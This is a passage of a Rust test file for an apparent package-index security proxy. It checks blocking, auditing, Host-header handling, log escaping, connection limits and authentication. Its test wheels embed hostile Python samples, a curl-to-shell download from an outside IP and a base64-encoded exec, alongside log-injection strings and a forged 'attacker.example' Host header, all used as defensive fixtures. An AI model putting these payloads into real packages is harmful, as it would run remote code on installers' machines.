//! The pipeline driven without a socket, as a new front end (CONNECT/TLS) would drive it:
//! build a [`RequestCtx`], call [`dispatch`], read the response and the audit log.

use super::{dispatch, RequestCtx};
use crate::app::App;
use crate::model::{FileOrigin, ReasonCode};
use hyper::header::{self, HeaderMap, HeaderValue};
use hyper::{Method, StatusCode};
use std::sync::Arc;

const SHA: &str = "5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e";

/// An app whose upstream is a closed port: nothing here may need the network.
fn app(dir: &std::path::Path, policy: &str) -> Arc<App> {
    App::for_tests(dir, policy)
}

fn ctx(app: &App, method: Method, path: &str) -> RequestCtx {
    let mut headers = HeaderMap::new();
    headers.insert(header::USER_AGENT, HeaderValue::from_static("pip/24.0 (front-end test)"));
    RequestCtx::new(app, method, path, headers, "127.0.0.1:40000".parse().unwrap())
}

async fn denied_origin(app: &App) {
    let origin = FileOrigin {
        key: SHA.into(),
        filename: "evil-1.0-py3-none-any.whl".into(),
        project: "evil".into(),
        url: "http://127.0.0.1:9/files/evil-1.0-py3-none-any.whl".into(),
        hashes: [("sha256".to_string(), SHA.to_string())].into(),
        upload_time: Some("2020-01-01T00:00:00Z".into()),
        size: Some(10),
        core_metadata: None,
    };
    app.origins.put_origins(vec![origin]).await.unwrap();
}

/// The module map's "must not" column for the server, checked on the source: the
/// pipeline's routes reach policy, scanner and store only through the gate and the app.
#[test]
fn the_server_does_not_import_policy_scan_or_store() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/server");
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        if path.file_name().is_some_and(|n| n == "tests.rs") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        for forbidden in ["crate::policy", "crate::scan", "crate::store"] {
            assert!(!text.contains(forbidden), "{} uses {forbidden}", path.display());
        }
    }
}

#[tokio::test]
async fn routes_answer_without_a_socket() {
    let dir = tempfile::tempdir().unwrap();
    let app = app(dir.path(), "");
    let cases = [
        ("health", Method::GET, "/healthz", StatusCode::OK),
        ("simple redirects to its slash", Method::GET, "/simple", StatusCode::MOVED_PERMANENTLY),
        ("names are normalised", Method::GET, "/simple/Foo_Bar", StatusCode::MOVED_PERMANENTLY),
        ("unknown path", Method::GET, "/nope", StatusCode::NOT_FOUND),
        ("report of an unscanned sha", Method::GET, &format!("/reports/{SHA}"), StatusCode::NOT_FOUND),
        ("dashboard", Method::GET, "/-/", StatusCode::OK),
        ("dashboard without its slash", Method::GET, "/-", StatusCode::MOVED_PERMANENTLY),
        ("metrics", Method::GET, "/metrics", StatusCode::OK),
        ("writes are refused", Method::POST, "/simple/", StatusCode::METHOD_NOT_ALLOWED),
        ("CONNECT reaches the router and is refused there", Method::CONNECT, "/", StatusCode::METHOD_NOT_ALLOWED),
    ];
    for (case, method, path, want) in cases {
        let resp = dispatch(&app, ctx(&app, method, path)).await;
        assert_eq!(resp.status(), want, "{case}");
    }
}

#[tokio::test]
async fn a_blocked_file_is_refused_and_audited_for_get_and_head() {
    let dir = tempfile::tempdir().unwrap();
    let app = app(dir.path(), "deny: [\"evil\"]\n");
    denied_origin(&app).await;
    let path = format!("/files/{SHA}/evil-1.0-py3-none-any.whl");
    for method in [Method::GET, Method::HEAD] {
        let resp = dispatch(&app, ctx(&app, method.clone(), &path)).await;
        assert_eq!(resp.status(), StatusCode::FORBIDDEN, "{method}");
        assert_eq!(resp.headers()["x-pipgate-decision"], "block", "{method}");
    }
    let meta = dispatch(&app, ctx(&app, Method::GET, &format!("{path}.metadata"))).await;
    assert_eq!(meta.status(), StatusCode::FORBIDDEN, "metadata of a blocked file is blocked too");

    let records = crate::audit::read_all(&dir.path().join("audit")).unwrap();
    let seen: Vec<(&str, &str, &str)> =
        records.iter().map(|r| (r.request.as_str(), r.decision.as_str(), r.project.as_str())).collect();
    assert_eq!(seen, [("file", "block", "evil"), ("file", "block", "evil"), ("metadata", "block", "evil")]);
    assert!(records.iter().all(|r| r.reasons[0].code == ReasonCode::DenyList), "{records:?}");
    assert_eq!(records[1].user_agent.as_deref(), Some("pip/24.0 (front-end test)"));
    assert_ne!(records[0].request_id, records[1].request_id, "each request has its own id");
}

#[tokio::test]
async fn an_unreachable_upstream_is_a_502_audited_as_an_upstream_fault() {
    let dir = tempfile::tempdir().unwrap();
    let app = app(dir.path(), "");
    denied_origin(&app).await; // not denied under this policy: it must be downloaded, and cannot be
    let resp = dispatch(&app, ctx(&app, Method::GET, &format!("/files/{SHA}/evil-1.0-py3-none-any.whl"))).await;
    assert_eq!(resp.status(), StatusCode::BAD_GATEWAY);
    let records = crate::audit::read_all(&dir.path().join("audit")).unwrap();
    assert_eq!(records.len(), 1);
    assert_eq!((records[0].decision.as_str(), records[0].fault.as_deref()), ("error", Some("upstream")));
}

#[tokio::test]
async fn a_block_points_at_its_report_from_configuration_never_from_the_host_header() {
    let report = format!("/reports/{SHA}");
    let cases: [(&str, Option<&str>, String, String); 3] = [
        (
            "no public url: relative instance, path in the detail",
            None,
            format!("../../reports/{SHA}"),
            format!("Report: {report} on this pipgate"),
        ),
        (
            "public url",
            Some("https://pipgate.example.org/"),
            format!("https://pipgate.example.org/reports/{SHA}"),
            format!("Report: https://pipgate.example.org/reports/{SHA}"),
        ),
        (
            "public url with a path",
            Some("https://example.org/pypi/"),
            format!("https://example.org/pypi/reports/{SHA}"),
            format!("Report: https://example.org/pypi/reports/{SHA}"),
        ),
    ];
    for (case, public, want_instance, want_detail) in cases {
        let dir = tempfile::tempdir().unwrap();
        let app = App::for_tests_with(dir.path(), "deny: [\"evil\"]\n", |c| {
            c.public_url = public.map(|u| url::Url::parse(u).unwrap());
        });
        denied_origin(&app).await;
        let mut req = ctx(&app, Method::GET, &format!("/files/{SHA}/evil-1.0-py3-none-any.whl"));
        req.headers.insert(header::HOST, HeaderValue::from_static("attacker.example"));
        req.host = "attacker.example".into();
        let resp = dispatch(&app, req).await;
        assert_eq!(resp.status(), StatusCode::FORBIDDEN, "{case}");
        let body = http_body_util::BodyExt::collect(resp.into_body()).await.unwrap().to_bytes();
        let text = String::from_utf8_lossy(&body);
        assert!(!text.contains("attacker.example"), "{case}: the Host header is reflected: {text}");
        let problem: serde_json::Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(problem["instance"], want_instance, "{case}");
        assert!(problem["detail"].as_str().unwrap().ends_with(&want_detail), "{case}: {}", problem["detail"]);
    }
}

#[tokio::test]
async fn a_report_is_a_page_for_browsers_and_text_or_json_for_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let app = App::for_tests_with(dir.path(), "deny: [\"evil\"]\n", |_| {});
    denied_origin(&app).await;
    let browser = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";
    let cases = [
        ("browser", Some(browser), "text/html; charset=utf-8", "Verdict: <span class=\"decision\">Blocked</span>"),
        ("json", Some("application/json"), "application/json", "\"held\": true"),
        ("curl", Some("*/*"), "text/plain; charset=utf-8", "is held by pipgate"),
        ("no accept", None, "text/plain; charset=utf-8", "is held by pipgate"),
    ];
    for (case, accept, want_type, want_body) in cases {
        let mut req = ctx(&app, Method::GET, &format!("/reports/{SHA}"));
        if let Some(a) = accept {
            req.headers.insert(header::ACCEPT, HeaderValue::from_static(a));
        }
        let resp = dispatch(&app, req).await;
        assert_eq!(resp.status(), StatusCode::OK, "{case}");
        assert_eq!(resp.headers()[header::CONTENT_TYPE], want_type, "{case}");
        assert_eq!(resp.headers()[header::VARY], "Accept", "{case}: caches must keep the formats apart");
        let html = want_type.starts_with("text/html");
        assert_eq!(resp.headers().contains_key(header::CONTENT_SECURITY_POLICY), html, "{case}");
        let body = http_body_util::BodyExt::collect(resp.into_body()).await.unwrap().to_bytes();
        let text = String::from_utf8_lossy(&body);
        assert!(text.contains(want_body), "{case}: {text}");
    }
}

/// A `tracing` writer into memory, to read back what a request logged.
#[derive(Clone, Default)]
struct Captured(Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(b);
        Ok(b.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn outside_text_is_escaped_in_log_lines_and_the_audit_table() {
    let captured = Captured::default();
    let sink = captured.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(move || sink.clone())
        .with_ansi(false)
        .with_max_level(tracing::Level::DEBUG)
        .finish();
    let _log = tracing::subscriber::set_default(subscriber);
    let hostile_ua = "pip/24.0\r\n2026-01-01T00:00:00Z  INFO forged: ok\u{1b}[2J\0";
    let hostile_name = "evil-1.0\u{1b}[31m\r\nforged\0-py3-none-any.whl";
    let cases = [("control characters in the user agent and the filename", hostile_ua, hostile_name)];
    for (case, ua, filename) in cases {
        let dir = tempfile::tempdir().unwrap();
        let app = app(dir.path(), ""); // nothing denied: the download is tried and fails (closed port)
        let origin = FileOrigin {
            key: SHA.into(),
            filename: filename.into(),
            project: "evil".into(),
            url: "http://127.0.0.1:9/files/evil.whl".into(),
            hashes: [("sha256".to_string(), SHA.to_string())].into(),
            upload_time: None,
            size: Some(10),
            core_metadata: None,
        };
        app.origins.put_origins(vec![origin]).await.unwrap();
        let encoded = percent_encoding::utf8_percent_encode(filename, percent_encoding::NON_ALPHANUMERIC);
        let mut req = ctx(&app, Method::GET, &format!("/files/{SHA}/{encoded}"));
        req.user_agent = Some(ua.into());
        let resp = dispatch(&app, req).await;
        assert_eq!(resp.status(), StatusCode::BAD_GATEWAY, "{case}");

        let log = String::from_utf8(captured.0.lock().unwrap().clone()).unwrap();
        let table = crate::audit::render_table(&crate::audit::read_all(&dir.path().join("audit")).unwrap());
        for (what, text) in [("log", &log), ("audit table", &table)] {
            assert!(!text.contains(['\r', '\u{1b}', '\0']), "{case}: raw control characters in the {what}: {text:?}");
            for line in text.lines().filter(|l| l.contains("forged")) {
                assert!(
                    line.contains("ua=") || line.contains("filename=") || line.contains("evil "),
                    "{case}: a forged {what} line: {line:?}\n{text}"
                );
            }
        }
        assert!(log.contains(r"ua=pip/24.0\r\n2026"), "{case}: the user agent is in the access log, escaped: {log}");
        assert!(log.contains(r"evil-1.0\u{1b}[31m\r\nforged\0-py3"), "{case}: the filename, escaped: {log}");
        assert!(table.contains(r"1.0\u{1b}[31m\r\nforged\0"), "{case}: the version in the table, escaped: {table}");
        let records = crate::audit::read_all(&dir.path().join("audit")).unwrap();
        assert_eq!(records[0].user_agent.as_deref(), Some(ua), "{case}: the audit log keeps the exact text");
        assert_eq!(records[0].filename, filename, "{case}");
    }
}

/// An upstream on 127.0.0.1 that answers every request with an empty 200, for readiness.
async fn answering_upstream() -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = s.read(&mut buf).await;
                let _ = s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n").await;
            });
        }
    });
    format!("http://{addr}/simple/")
}

#[tokio::test]
async fn readiness_names_the_check_that_failed() {
    let up = answering_upstream().await;
    let closed = "http://127.0.0.1:9/simple/".to_string();
    // A data directory whose tmp/ is a file: no write there can succeed (even as root).
    let break_store = |dir: &std::path::Path| {
        std::fs::remove_dir_all(dir.join("tmp")).unwrap();
        std::fs::write(dir.join("tmp"), "not a directory").unwrap();
    };
    type Breaker = Option<fn(&std::path::Path)>;
    // (case, upstream, what to break, status, failed checks)
    let cases: [(&str, &str, Breaker, StatusCode, &[&str]); 4] = [
        ("all well", &up, None, StatusCode::OK, &[]),
        ("upstream unreachable", &closed, None, StatusCode::SERVICE_UNAVAILABLE, &["upstream"]),
        ("store not writable", &up, Some(break_store), StatusCode::SERVICE_UNAVAILABLE, &["store"]),
        ("both", &closed, Some(break_store), StatusCode::SERVICE_UNAVAILABLE, &["store", "upstream"]),
    ];
    for (case, upstream, breaker, want_status, want_failed) in cases {
        let dir = tempfile::tempdir().unwrap();
        let upstream = url::Url::parse(upstream).unwrap();
        let app = App::for_tests_with(dir.path(), "", |cfg| cfg.upstream = upstream);
        if let Some(b) = breaker {
            b(dir.path());
        }
        let live = dispatch(&app, ctx(&app, Method::GET, "/healthz")).await;
        assert_eq!(live.status(), StatusCode::OK, "{case}: liveness does not depend on readiness");
        let resp = dispatch(&app, ctx(&app, Method::GET, "/readyz")).await;
        assert_eq!(resp.status(), want_status, "{case}");
        assert_eq!(resp.headers()[header::CONTENT_TYPE], "application/json", "{case}");
        let body = http_body_util::BodyExt::collect(resp.into_body()).await.unwrap().to_bytes();
        let doc: serde_json::Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(doc["ready"], want_failed.is_empty(), "{case}: {doc}");
        assert_eq!(doc["failed"], serde_json::json!(want_failed), "{case}: {doc}");
        let names: Vec<&str> = doc["checks"].as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
        assert_eq!(names, ["policy", "store", "upstream"], "{case}");
        for c in doc["checks"].as_array().unwrap() {
            assert!(!c["detail"].as_str().unwrap().is_empty(), "{case}: every check says why: {c}");
        }
        let audited = crate::audit::read_all(&dir.path().join("audit")).unwrap_or_default();
        assert!(audited.is_empty(), "{case}: health checks are not decisions: {audited:?}");
    }
}

#[tokio::test]
async fn a_recent_upstream_answer_makes_the_upstream_ready_without_asking_it_again() {
    let dir = tempfile::tempdir().unwrap();
    let up = url::Url::parse(&answering_upstream().await).unwrap();
    let app = App::for_tests_with(dir.path(), "", |cfg| cfg.upstream = up);
    let first = dispatch(&app, ctx(&app, Method::GET, "/readyz")).await;
    let body = http_body_util::BodyExt::collect(first.into_body()).await.unwrap().to_bytes();
    let doc: serde_json::Value = serde_json::from_slice(&body).unwrap();
    assert!(doc["checks"][2]["detail"].as_str().unwrap().contains("HEAD"), "{doc}");
    let second = dispatch(&app, ctx(&app, Method::GET, "/readyz")).await;
    let body = http_body_util::BodyExt::collect(second.into_body()).await.unwrap().to_bytes();
    let doc: serde_json::Value = serde_json::from_slice(&body).unwrap();
    assert!(doc["checks"][2]["detail"].as_str().unwrap().starts_with("answered 0s ago"), "{doc}");
}

mod listener {
    use super::*;
    use crate::server::{serve, ServeLimits};
    use std::net::{IpAddr, SocketAddr};
    use std::time::{Duration, Instant};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::TcpStream;

    async fn start(limits: ServeLimits) -> (SocketAddr, tempfile::TempDir) {
        let dir = tempfile::tempdir().unwrap();
        let app = app(dir.path(), "");
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(serve(listener, app, limits, std::future::pending()));
        (addr, dir)
    }

    /// Connect from a chosen loopback address (127.0.0.x are distinct clients).
    async fn connect_from(ip: [u8; 4], to: SocketAddr) -> TcpStream {
        let s = tokio::net::TcpSocket::new_v4().unwrap();
        s.bind(SocketAddr::new(IpAddr::from(ip), 0)).unwrap();
        s.connect(to).await.unwrap()
    }

    /// One keep-alive GET /healthz on `s`; the status line (or what came instead).
    async fn get(s: &mut TcpStream) -> String {
        if s.write_all(b"GET /healthz HTTP/1.1\r\nHost: t\r\n\r\n").await.is_err() {
            return "write failed".into();
        }
        read_some(s).await
    }

    async fn read_some(s: &mut TcpStream) -> String {
        let mut buf = vec![0u8; 4096];
        match tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf)).await {
            Ok(Ok(0)) => "closed".into(),
            Ok(Ok(n)) => String::from_utf8_lossy(&buf[..n]).lines().next().unwrap_or_default().to_string(),
            Ok(Err(_)) => "closed".into(),
            Err(_) => "timeout".into(),
        }
    }

    /// How long until the server closes `s` (reading, and optionally dribbling header bytes).
    async fn closed_after(s: &mut TcpStream, dribble: bool, give_up: Duration) -> Option<Duration> {
        let t = Instant::now();
        let mut buf = [0u8; 512];
        while t.elapsed() < give_up {
            if dribble && s.write_all(b"X-Slow: 1\r\n").await.is_err() {
                return Some(t.elapsed());
            }
            if let Ok(Ok(0) | Err(_)) = tokio::time::timeout(Duration::from_millis(200), s.read(&mut buf)).await {
                return Some(t.elapsed());
            }
        }
        None
    }

    fn limits(header: u64, idle: u64, max: usize, per_client: usize) -> ServeLimits {
        ServeLimits {
            header_timeout: Duration::from_secs(header),
            idle_timeout: Duration::from_secs(idle),
            max_connections: max,
            max_connections_per_client: per_client,
        }
    }

    #[tokio::test]
    async fn slow_and_idle_connections_are_closed() {
        // (case, limits, send a request first, then dribble headers, closed within)
        let cases = [
            ("slowloris: headers dribbled forever", limits(1, 30, 64, 64), false, true, Duration::from_secs(3)),
            ("idle keep-alive after a request", limits(30, 1, 64, 64), true, false, Duration::from_secs(3)),
            ("connected, never sends a byte", limits(30, 1, 64, 64), false, false, Duration::from_secs(3)),
        ];
        for (case, limits, request_first, dribble, within) in cases {
            let (addr, _dir) = start(limits).await;
            let mut s = TcpStream::connect(addr).await.unwrap();
            if request_first {
                assert_eq!(get(&mut s).await, "HTTP/1.1 200 OK", "{case}");
            }
            if dribble {
                s.write_all(b"GET /healthz HTTP/1.1\r\nHost: t\r\n").await.unwrap();
            }
            let took = closed_after(&mut s, dribble, Duration::from_secs(8)).await;
            assert!(took.is_some_and(|t| t <= within), "{case}: closed after {took:?}, want within {within:?}");
        }
    }

    #[tokio::test]
    async fn excess_connections_get_a_503_while_existing_clients_are_served() {
        let (addr, _dir) = start(limits(30, 30, 4, 2)).await;
        let mut a1 = connect_from([127, 0, 0, 1], addr).await;
        let mut a2 = connect_from([127, 0, 0, 1], addr).await;
        assert_eq!(get(&mut a1).await, "HTTP/1.1 200 OK");
        assert_eq!(get(&mut a2).await, "HTTP/1.1 200 OK");
        let mut b1 = connect_from([127, 0, 0, 2], addr).await;
        let mut b2 = connect_from([127, 0, 0, 2], addr).await;
        assert_eq!(get(&mut b1).await, "HTTP/1.1 200 OK");
        let cases: [(&str, [u8; 4], &str); 2] = [
            ("a third connection from one client", [127, 0, 0, 1], "HTTP/1.1 503 Service Unavailable"),
            ("a fifth connection overall", [127, 0, 0, 3], "HTTP/1.1 503 Service Unavailable"),
        ];
        for (case, ip, want) in cases {
            let mut s = connect_from(ip, addr).await;
            assert_eq!(read_some(&mut s).await, want, "{case}");
            assert_eq!(read_some(&mut s).await, "closed", "{case}: and closed");
        }
        for (case, s) in [("first client, again", &mut a1), ("second client", &mut b2)] {
            assert_eq!(get(s).await, "HTTP/1.1 200 OK", "{case}: existing connections are still served");
        }
        drop(a1);
        tokio::time::sleep(Duration::from_millis(200)).await;
        let mut again = connect_from([127, 0, 0, 1], addr).await;
        assert_eq!(get(&mut again).await, "HTTP/1.1 200 OK", "a freed slot is reusable");
    }
}

fn with_credentials(app: &App, path: &str, user: &str, token: &str) -> RequestCtx {
    use base64::Engine;
    let mut req = ctx(app, Method::GET, path);
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{token}"));
    req.headers.insert(header::AUTHORIZATION, HeaderValue::from_str(&format!("Basic {basic}")).unwrap());
    req
}

async fn body_text(resp: hyper::Response<crate::respond::Body>) -> String {
    use http_body_util::BodyExt;
    String::from_utf8(resp.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap()
}

#[tokio::test]
async fn index_authentication_admits_users_and_names_them_in_audit_and_block_messages() {
    let dir = tempfile::tempdir().unwrap();
    let hash = crate::auth::TokenHash::of("pgt_alice");
    let app = app(
        dir.path(),
        &format!("deny: [\"evil\"]\nauth:\n  users:\n    - {{ name: alice, token_hash: \"{hash}\" }}\n"),
    );
    denied_origin(&app).await;
    let file = format!("/files/{SHA}/evil-1.0-py3-none-any.whl");
    let remote = |mut r: RequestCtx| {
        r.client = "10.0.0.5:40000".parse().unwrap();
        r
    };
    let cases: Vec<(&str, RequestCtx, StatusCode, &str)> = vec![
        ("probes need no credentials", ctx(&app, Method::GET, "/healthz"), StatusCode::OK, ""),
        ("a page without credentials", ctx(&app, Method::GET, "/simple/"), StatusCode::UNAUTHORIZED, "USER:TOKEN@HOST"),
        ("a file without credentials", ctx(&app, Method::GET, &file), StatusCode::UNAUTHORIZED, "USER:TOKEN@HOST"),
        (
            "the dashboard without credentials",
            ctx(&app, Method::GET, "/-/"),
            StatusCode::UNAUTHORIZED,
            "USER:TOKEN@HOST",
        ),
        (
            "metrics without credentials",
            ctx(&app, Method::GET, "/metrics"),
            StatusCode::UNAUTHORIZED,
            "USER:TOKEN@HOST",
        ),
        (
            "the dashboard with a token",
            with_credentials(&app, "/-/", "alice", "pgt_alice"),
            StatusCode::OK,
            "pipgate dashboard",
        ),
        ("a wrong token", with_credentials(&app, &file, "alice", "pgt_bob"), StatusCode::UNAUTHORIZED, "not valid"),
        (
            "the right token reaches the gate, whose block names the requester",
            with_credentials(&app, &file, "alice", "pgt_alice"),
            StatusCode::FORBIDDEN,
            "say that alice requested it (request ",
        ),
        (
            "plain HTTP from another machine",
            remote(with_credentials(&app, &file, "alice", "pgt_alice")),
            StatusCode::FORBIDDEN,
            "over plain HTTP",
        ),
        (
            "TLS from another machine",
            RequestCtx { secure: true, ..remote(with_credentials(&app, &file, "alice", "pgt_alice")) },
            StatusCode::FORBIDDEN,
            "pipgate blocked evil-1.0",
        ),
    ];
    for (case, req, want, says) in cases {
        let resp = dispatch(&app, req).await;
        assert_eq!(resp.status(), want, "{case}");
        let challenge = resp.headers().get(header::WWW_AUTHENTICATE).map(|v| v.to_str().unwrap().to_string());
        assert_eq!(
            challenge.as_deref(),
            (want == StatusCode::UNAUTHORIZED).then_some("Basic realm=\"pipgate\", charset=\"UTF-8\""),
            "{case}"
        );
        let body = body_text(resp).await;
        assert!(body.contains(says), "{case}: {body}");
        assert!(!body.contains("pgt_"), "{case}: no token in the answer: {body}");
    }
    let records = crate::audit::read_all(&dir.path().join("audit")).unwrap();
    let users: Vec<Option<&str>> = records.iter().map(|r| r.user.as_deref()).collect();
    assert_eq!(users, [Some("alice"), Some("alice")], "only admitted requests reach the gate and the audit log");
}

#[tokio::test]
async fn over_the_rate_limit_a_client_gets_429_with_retry_after() {
    let dir = tempfile::tempdir().unwrap();
    let app = app(dir.path(), "limits:\n  per_client: { requests_per_second: 0.5, burst: 2 }\n");
    let statuses: Vec<u16> =
        futures_util::future::join_all((0..3).map(|_| dispatch(&app, ctx(&app, Method::GET, "/simple/nope/"))))
            .await
            .iter()
            .map(|r| r.status().as_u16())
            .collect();
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 1, "{statuses:?}: burst 2, then refused");
    let resp = dispatch(&app, ctx(&app, Method::GET, "/simple/nope/")).await;
    assert_eq!(resp.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait: u64 = resp.headers()[header::RETRY_AFTER].to_str().unwrap().parse().unwrap();
    assert!((1..=2).contains(&wait), "one token per 2 s: {wait}");
    let body = body_text(resp).await;
    assert!(
        body.contains("client 127.0.0.1 sent more than 0.5 requests per second") && body.contains("limits.per_client"),
        "{body}"
    );
    assert_eq!(
        dispatch(&app, ctx(&app, Method::GET, "/healthz")).await.status(),
        StatusCode::OK,
        "probes are not limited"
    );
}

/// A decision reaches the store's index (written in the background) and the dashboard lists
/// it under its filter, with a link to its report; another filter leaves it out.
#[tokio::test]
async fn a_block_is_indexed_and_listed_on_the_dashboard() {
    let dir = tempfile::tempdir().unwrap();
    let app = app(dir.path(), "deny: [\"evil\"]\n");
    denied_origin(&app).await;
    let resp = dispatch(&app, ctx(&app, Method::GET, &format!("/files/{SHA}/evil-1.0-py3-none-any.whl"))).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let rows = app
            .audit_index
            .recent_decisions(crate::store::DecisionFilter { limit: 10, ..Default::default() })
            .await
            .unwrap();
        if !rows.is_empty() {
            assert_eq!((rows[0].outcome.as_str(), rows[0].client.as_str()), ("block", "127.0.0.1"));
            break;
        }
        assert!(std::time::Instant::now() < deadline, "the block never reached the index");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let page = |query: &'static str| {
        let mut c = ctx(&app, Method::GET, "/-/");
        c.query = Some(query.to_string());
        dispatch(&app, c)
    };
    let cases = [
        ("blocked filter lists it", "outcome=blocked", true),
        ("its project", "project=evil", true),
        ("its client", "client=127.0.0.1", true),
        ("served filter leaves it out", "outcome=served", false),
        ("another project leaves it out", "project=other", false),
    ];
    for (case, query, listed) in cases {
        let resp = page(query).await;
        assert_eq!(resp.status(), StatusCode::OK, "{case}");
        assert_eq!(resp.headers()[header::CONTENT_TYPE], "text/html; charset=utf-8", "{case}");
        let body = body_text(resp).await;
        assert_eq!(body.contains(&format!("href=\"/reports/{SHA}\"")), listed, "{case}: {body}");
        assert_eq!(body.contains("row-block"), listed, "{case}");
    }
}

/// A cooldown hold met by a request is listed with the time it ends, and an acceptance of
/// the policy in force that expires within 30 days is listed; one expiring later is not.
#[tokio::test]
async fn the_dashboard_lists_cooldown_holds_and_acceptances_due() {
    let dir = tempfile::tempdir().unwrap();
    let now = time::OffsetDateTime::now_utc();
    let date = |days: i64| (now + time::Duration::days(days)).date().to_string();
    let acceptance = |id: &str, days: i64| {
        format!(
            "  - {{ id: {id}, owner: sec@example.org, findings: [network.downloads-file], project: evil, reason: reviewed, ticket: T-1, expires: \"{}\" }}\n",
            date(days)
        )
    };
    let policy = format!(
        "cooldown: {{ min_age: 3650d }}\nacceptances:\n{}{}",
        acceptance("SEC-SOON", 10),
        acceptance("SEC-LATER", 90)
    );
    let app = app(dir.path(), &policy);
    denied_origin(&app).await; // uploaded 2020-01-01: held until 2029-12-29
    let resp = dispatch(&app, ctx(&app, Method::GET, &format!("/files/{SHA}/evil-1.0-py3-none-any.whl"))).await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let body = loop {
        let body = body_text(dispatch(&app, ctx(&app, Method::GET, "/-/")).await).await;
        if body.contains("row-block") {
            break body;
        }
        assert!(std::time::Instant::now() < deadline, "the hold never reached the dashboard: {body}");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    let holds = &body[body.find("id=\"holds\"").expect("a holds section")..];
    let holds = &holds[..holds.find("</section>").unwrap()];
    assert!(holds.contains("evil 1.0") && holds.contains("2029-12-29T"), "{holds}");
    let due = &body[body.find("id=\"acceptances\"").expect("an acceptances section")..];
    let due = &due[..due.find("</section>").unwrap()];
    for (case, needle, listed) in [("due in 10 days", "SEC-SOON", true), ("due in 90 days", "SEC-LATER", false)] {
        assert_eq!(due.contains(needle), listed, "{case}: {due}");
    }
}

/// Project pages patched per entry equal a whole render (the patching lives in `page`).
mod patched_pages {
    use crate::gate::{Gate, GateParts};
    use crate::index::accept::PageFormat;
    use crate::index::page::parse_project;
    use crate::index::patch::Patched;
    use crate::index::render;
    use crate::model::{ArtifactFacts, Decision, Verified};
    use crate::policy::Policy;
    use crate::scan::Scanner;
    use crate::server::page::render_patched;
    use crate::store::{OriginStore, SqliteStore};
    use arc_swap::ArcSwap;
    use std::io::Write;
    use std::sync::Arc;

    const LENIENT: &str =
        "index: yank\ndefaults:\n  action: annotate\n  severity:\n    critical: block\n    low: allow\n    info: allow\n";

    /// A wheel of `demo` at `version` whose `__init__.py` is `code`, with its sha256.
    fn wheel(dir: &std::path::Path, version: &str, code: &str) -> (String, std::path::PathBuf, String) {
        let filename = format!("demo-{version}-py3-none-any.whl");
        let path = dir.join(&filename);
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
        let opts = zip::write::SimpleFileOptions::default();
        let metadata =
            format!("Metadata-Version: 2.1\nName: demo\nVersion: {version}\nAuthor-email: a <a@example.org>\n");
        for (name, body) in [
            ("demo/__init__.py".to_string(), code.to_string()),
            (format!("demo-{version}.dist-info/METADATA"), metadata),
            (format!("demo-{version}.dist-info/RECORD"), String::new()),
        ] {
            zip.start_file(name, opts).unwrap();
            zip.write_all(body.as_bytes()).unwrap();
        }
        zip.finish().unwrap();
        use sha2::Digest;
        let sha = hex::encode(sha2::Sha256::digest(std::fs::read(&path).unwrap()));
        (filename, path, sha)
    }

    /// A sequence of verdicts applied to one kept page must give, at every step and in both
    /// formats, the page a fresh render gives (a new patchable page, holds read afresh) and
    /// the page the whole-listing renderers give; every step changes the page and its ETag.
    #[tokio::test(flavor = "multi_thread")]
    async fn a_patched_page_equals_a_full_render_after_every_verdict() {
        let dir = tempfile::tempdir().unwrap();
        let store = Arc::new(SqliteStore::open(&dir.path().join("s.sqlite3")).unwrap());
        let policy =
            Arc::new(ArcSwap::from_pointee(Policy::from_str_with_catalog("policy.yaml", LENIENT, &[]).unwrap()));
        let gate = Gate::new(GateParts {
            scanner: Scanner::new(Default::default()),
            policy: policy.clone(),
            scans: store.clone(),
            origins: store.clone(),
            enrich: crate::gate::enrich::Enricher::none(),
            dangerous_skip_scan: false,
            lookback: None,
        });
        let blocks = "import os\nos.system('curl http://203.0.113.9/x.sh | sh')\n";
        let wheels = [
            ("0.9", blocks),
            ("1.0", "VERSION = '1.0'\n"),
            ("2.0", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
            ("3.0", blocks),
        ]
        .map(|(v, code)| wheel(dir.path(), v, code));
        // The upstream page: each wheel and an sdist per version (never scanned), no `versions`
        // (derived from what is shown), a PEP 792 status kept as sent.
        let mut files = Vec::new();
        for (filename, path, sha) in &wheels {
            let size = std::fs::metadata(path).unwrap().len();
